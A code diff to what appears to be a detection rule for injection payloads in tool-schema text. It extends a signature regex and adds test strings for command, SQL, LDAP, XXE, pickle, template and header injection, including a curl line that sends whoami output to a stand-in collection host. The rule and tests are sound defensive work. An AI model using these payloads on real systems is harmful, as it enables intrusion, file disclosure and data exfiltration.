@@ -32,7 +32,7 @@ const KINDS: readonly SurfaceKind[] = [
 ];
 
 /** No payload does without one of these. */
-const SIGNS = /[;|&$'"<>{}()`~%\\*=/]|c:/;
+const SIGNS = /[;|&$'"<>{}()`~%\\*=/]|c:|gAS|rO0AB|set \+o/;
 
 const value = (text: string): { text: string; kind: 'tool.schema' } => ({ text, kind: 'tool.schema' });
 
@@ -56,6 +56,11 @@ export default defineRule({
     value('report.txt; cat /etc/passwd'),
     value('$(curl https://collect.example.net/$(whoami))'),
     value("' OR 1=1 --"),
+    value('(uid=*))(|(uid=*'),
+    value('set +o history; make'),
+    value('gASVOAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU'),
+    value('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'),
+    value('a@b.example%0d%0aBcc:c@d.example'),
     value('../../../../etc/passwd'),
     "Checks the build: python -c \"__import__('os').system('id')\"",
     value('{{ self.__init__.__globals__.os.popen("id").read() }}'),
@@ -74,6 +79,8 @@ export default defineRule({
     value('SELECT id, name FROM users WHERE id = 1'),
     value('${workspaceFolder}/../shared/config.json'),
     value('{{ user.name }}'),
+    value('(&(objectClass=person)(uid=ann))'),
+    value('(|(cn=ann)(cn=bob))'),
     'Fetch a page: curl https://api.example.com/v1/items -H "Accept: application/json"',
     'Never pass `$(cat /etc/passwd)` or other substitutions; arguments are escaped.',
     'Search nodes, e.g. query="slack" or query="database".',
